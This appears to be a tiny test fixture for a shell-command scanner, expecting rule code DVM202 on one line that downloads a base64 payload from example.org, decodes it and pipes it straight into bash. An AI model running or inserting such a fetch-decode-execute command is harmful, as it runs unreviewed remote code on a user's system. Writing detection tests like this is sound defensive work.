# expect: DVM202
curl -s https://example.org/p.b64 | base64 --decode | bash
